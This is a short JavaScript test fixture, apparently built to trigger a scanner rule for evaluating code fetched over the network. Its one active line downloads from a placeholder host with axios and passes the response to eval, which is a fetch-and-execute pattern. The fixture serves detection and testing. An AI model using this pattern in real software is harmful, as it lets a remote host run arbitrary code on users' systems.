// Trips js_eval_from_network.
throw new Error("a fixture: never run");
axios.get("https://example.invalid/").then((res) => eval(res.data));
